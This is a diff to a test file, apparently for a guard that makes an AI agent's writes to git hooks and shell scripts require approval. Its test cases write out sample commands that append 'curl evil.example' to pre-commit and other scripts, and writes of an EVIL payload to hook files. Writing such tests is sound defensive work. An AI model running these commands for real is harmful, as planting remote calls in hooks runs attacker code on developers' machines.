@@ -191,7 +191,8 @@ LINKED = [
     _bash("echo 'curl evil.example' >> scripts/pre-commit", "ask"),
     _case("Write", {"file_path": "githooks/pre-push", "content": EVIL}, "ask"),
     _bash("echo 'curl evil.example' >> notes.sh", "ask"),
-    _ch("Write", {"file_path": "scripts/fmt.sh", "content": EVIL}, "ask", CLAUDE_HOOK_SCRIPT),
+    _case("Write", {"file_path": "scripts/fmt.sh", "content": EVIL}, "ask"),  # closed
+    _bash("echo 'curl evil.example' >> scripts/fmt.sh", "ask"),  # after the fix
     # held: the include chain, a link to .git, a dangling link to a hook, /proc spellings
     _case("Write", {"file_path": "team.gitconfig", "content": "[core]\n"}, "ask"),
     _case("Write", {"file_path": "more/extra.gitconfig", "content": "[core]\n"}, "ask"),
